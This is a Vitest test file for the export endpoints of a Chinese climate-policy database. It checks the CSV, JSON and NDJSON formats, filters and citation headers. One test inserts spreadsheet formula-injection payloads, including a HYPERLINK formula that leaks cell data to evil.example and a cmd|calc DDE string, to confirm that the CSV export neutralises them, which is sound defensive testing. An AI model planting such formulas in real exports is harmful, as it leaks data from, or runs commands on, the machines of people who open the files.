import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { binaryBody } from './helpers/binary-body';
import { HIDDEN, startSearchApp } from './search-seed';

const COLUMNS = [
  'slug',
  'url',
  'kind',
  'title_en',
  'title_zh',
  'summary_en',
  'summary_zh',
  'jurisdiction',
  'jurisdiction_en',
  'jurisdiction_zh',
  'province',
  'level',
  'sectors',
  'instrument',
  'themes',
  'ghgs',
  'issuers',
  'status',
  'issued_on',
  'published_at',
  'updated_at',
  'targets_count',
  'document_number',
  'period_from',
  'period_to',
];

describe('GET /api/export/entries.{csv,json,ndjson}', () => {
  let t: Awaited<ReturnType<typeof startSearchApp>>;
  const raw = (path: string) => t.http().get(path).buffer(true).parse(binaryBody);

  beforeAll(async () => {
    t = await startSearchApp();
  });
  afterAll(() => t?.close());

  it('CSV: UTF-8 with BOM, the documented columns, every matching entry, a final citation row', async () => {
    const res = await raw('/api/export/entries.csv').expect(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="dualcarbon-entries-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(res.headers['x-citation']).toMatch(/^dualcarbon \(\d{4}\)\. .* Retrieved \d{4}-\d{2}-\d{2} from http:\/\/.*\/api\/export\/entries\.csv$/);
    expect(res.headers['link']).toMatch(/^<http:\/\/.*\/api\/export\/entries\.csv>; rel="cite-as"$/);
    const body = res.body as Buffer;
    expect([...body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows: string[][] = parse(body.toString('utf8').slice(1), { relax_column_count: false });
    expect(rows[0]).toEqual(COLUMNS);
    const data = rows.slice(1, -1);
    const search = await t.http().get('/api/entries?pageSize=100').expect(200);
    expect(data.map((r) => r[0])).toEqual(search.body.items.map((i: { slug: string }) => i.slug));
    expect(rows.at(-1)!.slice(0, 4)).toEqual(['#citation', expect.stringMatching(/\/api\/export\/entries\.csv$/), '', res.headers['x-citation']]);
    const hainan = data.find((r) => r[0] === 'hainan-hydrogen-energy-industry-medium-long-term-plan-2023-2035')!;
    const rec = Object.fromEntries(COLUMNS.map((c, i) => [c, hainan[i]]));
    expect(rec).toMatchObject({
      url: expect.stringMatching(/\/en\/entries\/hainan-hydrogen-energy-industry-medium-long-term-plan-2023-2035$/),
      title_zh: '海南省氢能产业发展中长期规划（2023—2035年）',
      jurisdiction: '460000',
      jurisdiction_en: 'Hainan Province',
      jurisdiction_zh: '海南省',
      province: '460000',
      level: 'provincial',
      sectors: 'energy.hydrogen|transport.nev',
      themes: 'hydrogen',
      targets_count: '7',
      issued_on: '',
    });
  });

  it('applies the filters, never exports drafts, unpublished or deleted entries', async () => {
    const csv = await raw('/api/export/entries.csv?sector=energy.hydrogen').expect(200);
    const rows: string[][] = parse((csv.body as Buffer).toString('utf8').slice(1));
    expect(
      rows
        .slice(1, -1)
        .map((r) => r[0])
        .sort(),
    ).toEqual(['dongguan-hydrogen-energy-industry-action-plan-2023-2025', 'hainan-hydrogen-energy-industry-medium-long-term-plan-2023-2035']);
    expect(csv.headers['x-citation']).toContain('sector=energy.hydrogen');
    for (const format of ['csv', 'json', 'ndjson']) {
      const text = ((await raw(`/api/export/entries.${format}?region=130000`).expect(200)).body as Buffer).toString('utf8');
      for (const slug of HIDDEN) expect(text).not.toContain(slug);
    }
  });

  it('CSV: a cell a spreadsheet would run as a formula starts with an apostrophe; JSON keeps the text as it is', async () => {
    const formulas = {
      title_en: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
      title_zh: '@SUM(1+1)',
      summary_en: '+1+cmd|calc',
      summary_zh: '-2+3',
    };
    await t.db.query(
      `INSERT INTO entries (slug, kind, title_en, title_zh, summary_en, summary_zh, jurisdiction, level, workflow_status, issued_on, published_at)
       VALUES ('formula-cells', 'report', $1, $2, $3, $4, '110000', 'provincial', 'published', '2099-01-01', now()),
              ('formula-controls', 'report', E'\tTAB', E'\rCR', NULL, NULL, '110000', 'provincial', 'published', '2099-01-02', now())`,
      [formulas.title_en, formulas.title_zh, formulas.summary_en, formulas.summary_zh],
    );
    const csv = await raw('/api/export/entries.csv?kind=report').expect(200);
    const rows: string[][] = parse((csv.body as Buffer).toString('utf8').slice(1));
    const cells = (slug: string) => Object.fromEntries(COLUMNS.map((c, i) => [c, rows.find((r) => r[0] === slug)![i]]));
    expect(cells('formula-cells')).toMatchObject(Object.fromEntries(Object.entries(formulas).map(([k, v]) => [k, `'${v}`])));
    expect(cells('formula-controls')).toMatchObject({ title_en: "'\tTAB", title_zh: "'\rCR" });
    // No cell anywhere in the file starts with a character that makes a spreadsheet evaluate it.
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    const json = JSON.parse(((await raw('/api/export/entries.json?kind=report').expect(200)).body as Buffer).toString('utf8'));
    expect(json.items.find((i: { slug: string }) => i.slug === 'formula-cells')).toMatchObject(formulas);
  });

  it('links to the reader’s language with lang=zh (url column, citation URL, query), same columns', async () => {
    const res = await raw('/api/export/entries.csv?sector=energy.hydrogen&lang=zh').expect(200);
    const rows: string[][] = parse((res.body as Buffer).toString('utf8').slice(1));
    expect(rows[0]).toEqual(COLUMNS);
    const urls = rows.slice(1, -1).map((r) => r[1]);
    expect(urls).toHaveLength(2);
    for (const url of urls) expect(url).toMatch(/^http:\/\/[^/]+\/zh\/entries\/[a-z0-9-]+$/);
    expect(rows.at(-1)![1]).toMatch(/\/api\/export\/entries\.csv\?sector=energy\.hydrogen&lang=zh$/);
    const json = JSON.parse(((await raw('/api/export/entries.json?lang=zh&region=460000').expect(200)).body as Buffer).toString('utf8'));
    expect(json.query).toEqual({ region: '460000', lang: 'zh' });
    expect(json.items[0].url).toMatch(/\/zh\/entries\/hainan-/);
    await raw('/api/export/entries.csv?lang=de').expect(400);
  });

  it('JSON: {citation, url, generatedAt, query, total, columns, items}', async () => {
    const res = await raw('/api/export/entries.json?q=%E6%B0%A2%E8%83%BD').expect(200);
    expect(res.headers['content-type']).toBe('application/json; charset=utf-8');
    const doc = JSON.parse((res.body as Buffer).toString('utf8'));
    expect(doc).toMatchObject({ citation: res.headers['x-citation'], query: { q: '氢能' }, total: 2, columns: COLUMNS });
    expect(doc.items.map((i: { slug: string }) => i.slug)).toEqual([
      'hainan-hydrogen-energy-industry-medium-long-term-plan-2023-2035',
      'dongguan-hydrogen-energy-industry-action-plan-2023-2025',
    ]);
    expect(Object.keys(doc.items[0])).toEqual(COLUMNS);
    expect(doc.items[1]).toMatchObject({ title_zh: null, sectors: ['energy.hydrogen', 'transport.nev', 'industry.equipment'], targets_count: 3 });
    const empty = JSON.parse(((await raw('/api/export/entries.json?status=expired').expect(200)).body as Buffer).toString('utf8'));
    expect(empty).toMatchObject({ total: 0, items: [] });
  });

  it('NDJSON: a meta line, then one entry per line', async () => {
    const res = await raw('/api/export/entries.ndjson?kind=report').expect(200);
    expect(res.headers['content-type']).toBe('application/x-ndjson; charset=utf-8');
    const lines = (res.body as Buffer)
      .toString('utf8')
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(lines[0].meta).toMatchObject({ total: lines.length - 1, query: { kind: 'report' }, columns: COLUMNS });
    expect(lines.slice(1).every((l) => l.kind === 'report')).toBe(true);
    expect(lines.length - 1).toBe((await t.http().get('/api/entries?kind=report').expect(200)).body.total);
  });
});
